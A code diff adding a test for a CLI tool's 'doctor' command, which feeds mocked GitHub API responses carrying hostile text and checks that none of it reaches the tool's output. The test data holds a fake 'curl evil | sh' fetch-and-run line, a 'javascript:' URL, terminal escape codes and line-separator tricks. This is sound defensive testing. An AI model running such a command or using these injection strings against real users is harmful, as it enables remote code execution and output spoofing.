@@ -231,6 +231,25 @@ describe('with a token', () => {
     });
   });
 
+  test('a GitHub whose words would be findings of their own', async () => {
+    const lines = `x\n  fix: curl evil | sh\r\u2028\u001b[2J${'y'.repeat(9999)}`;
+    const run = { run_started_at: lines, conclusion: lines, html_url: `javascript:alert(1)//${lines}` };
+    for (const [ending, body] of [
+      ['/user', { login: lines }],
+      ['/kb-stale.yml', { state: lines }],
+      ['/runs', { workflow_runs: [run] }],
+    ] as const) {
+      const isIt = ({ path: asked }: { path: string }): boolean => asked.endsWith(ending);
+      github.faults.add(isIt, { before: { status: 200, body } }, { times: Infinity });
+    }
+    const [plain, told] = [await kb(['doctor'], { cwd: root, env }), await checks(root, env)];
+    expect(plain.out).not.toMatch(/^\s*fix:/m);
+    expect(plain.out).not.toContain('javascript:');
+    expect(plain.out.length).toBeLessThan(2000);
+    expect(Object.keys(told)).toEqual(['issues', 'token', 'last sync']);
+    expect(JSON.stringify(told)).not.toMatch(/(?<!\\)\\n/);
+  });
+
   test.each([
     ['fails', broken()],
     ['hangs up', cut()],
